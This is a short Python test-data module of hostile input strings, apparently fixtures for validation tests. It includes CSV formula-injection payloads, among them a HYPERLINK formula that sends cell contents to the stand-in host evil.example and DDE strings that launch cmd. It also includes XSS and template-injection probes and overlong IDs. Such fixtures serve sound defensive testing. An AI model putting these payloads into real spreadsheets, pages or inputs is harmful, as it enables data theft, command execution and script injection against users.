"""Hostile strings: spreadsheet formulas (CSV/formula injection), markup, overlong ids."""

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "http://evil.example/",
]

XSS = [
    '<script>alert("xss")</script>',
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ 7*7 }}{% debug %}",
]

# Larger than any database's 64-bit integer and SQLite's INTEGER.
OVERLONG_IDS = ["99999999999999999999", "-99999999999999999999", "1e999", "0x10", "１２"]
